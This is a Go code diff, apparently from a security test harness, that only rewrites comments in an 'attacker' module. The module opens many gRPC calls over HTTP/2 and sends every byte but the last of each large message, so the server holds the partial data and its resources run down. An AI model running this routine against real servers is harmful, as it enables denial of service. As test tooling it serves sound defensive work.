@@ -13,13 +13,13 @@ import (
 	"golang.org/x/net/http2/hpack"
 )
 
-// The attacks that begin messages and do not end them, so that a server keeps what has come (issue 12, item 8).
+// Attacks that begin messages without ending them, so that the server keeps the received part.
 
-// unended is how many calls these attacks have on one connection, of how many bytes their messages say that they are: of as many as
-// gRPC allows, all but the last byte are sent, where the server lets them.
+// unendedCalls is the number of calls on one connection, unendedSize the announced size of their messages in bytes: the
+// largest that gRPC allows. All bytes but the last are sent, if the server permits that.
 const unendedCalls, unendedSize = 80, 4<<20 - 8
 
-// unendedStreams and unendedRequests begin requests of delta ADS and for certificates.
+// unendedStreams and unendedRequests use requests of delta ADS and requests for certificates.
 func unendedStreams(ctx context.Context, w *attacker) string { return w.unended(ctx, deltaMethod) }
 func unendedRequests(ctx context.Context, w *attacker) string {
 	return w.unended(ctx, certificateMethod)
@@ -39,7 +39,8 @@ func (w *attacker) unended(ctx context.Context, method string) string {
 	})
 }
 
-// http2 opens a connection with the certificate, and speaks on it while what the server says is read; the context of speak ends with the connection.
+// http2 opens a connection with the certificate, and calls speak while it reads the server's frames. The context of
+// speak ends with the connection. It returns the result of the try.
 func (w *attacker) http2(ctx context.Context, speak func(context.Context, *http2Conn) error) string {
 	return w.raw(ctx, func(raw net.Conn) error {
 		conn := tls.Client(raw, config(w.Certificate))
@@ -56,28 +57,29 @@ func (w *attacker) http2(ctx context.Context, speak func(context.Context, *http2
 		speaking, cancel := context.WithCancel(ctx)
 		defer cancel()
 		var reading sync.WaitGroup
-		reading.Go(func() { u.read(w); _ = raw.Close(); cancel() }) // speaking ends, whether it writes or waits
+		reading.Go(func() { u.read(w); _ = raw.Close(); cancel() }) // ends speak, even if it is blocked
 		defer reading.Wait()
 		defer raw.Close()
 		return speak(speaking, u)
 	})
 }
 
-// http2Conn is one connection of HTTP/2.
+// http2Conn is an HTTP/2 connection with flow control.
 type http2Conn struct {
 	*http2.Framer
 	write   sync.Mutex
-	changed chan struct{} // of one: there is more room to send
+	changed chan struct{} // capacity 1: a window has grown
 
 	mu     sync.Mutex
-	window map[uint32]int // bytes that may be sent; 0: on the connection
+	window map[uint32]int // bytes that may be sent, by stream; key 0: the connection
 }
 
-// begin begins a call, and says of its message how many bytes it has.
+// begin begins a call and announces a message of size bytes.
 func (u *http2Conn) begin(stream uint32, method, token string, size uint32) error {
 	var block bytes.Buffer
 	enc := hpack.NewEncoder(&block)
-	for _, h := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", method}, {":authority", "x"}, {"content-type", "application/grpc"},
+	for _, h := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", method},
+		{":authority", "x"}, {"content-type", "application/grpc"},
 		{"authorization", "Bearer " + token}} {
 		if err := enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}); err != nil {
 			return err
@@ -95,7 +97,7 @@ func (u *http2Conn) begin(stream uint32, method, token string, size uint32) erro
 	return u.WriteData(stream, false, binary.BigEndian.AppendUint32([]byte{0}, size))
 }
 
-// speak sends of all messages what may be sent but for the last byte of each, until the connection or ctx ends.
+// speak sends all bytes of the messages but the last of each, as the windows permit, until the connection or ctx ends.
 func (u *http2Conn) speak(ctx context.Context, streams []uint32) error {
 	left := map[uint32]int{}
 	for _, s := range streams {
@@ -133,7 +135,7 @@ func (u *http2Conn) speak(ctx context.Context, streams []uint32) error {
 	}
 }
 
-// read notes what the server has room for, until the connection ends.
+// read updates the windows from the server's frames, until the connection ends.
 func (u *http2Conn) read(w *attacker) {
 	for {
 		f, err := u.ReadFrame()
@@ -150,7 +152,7 @@ func (u *http2Conn) read(w *attacker) {
 			case u.changed <- struct{}{}:
 			default:
 			}
-		case *http2.RSTStreamFrame, *http2.HeadersFrame: // it is over
+		case *http2.RSTStreamFrame, *http2.HeadersFrame: // the stream has ended
 			u.mu.Lock()
 			delete(u.window, stream)
 			u.mu.Unlock()
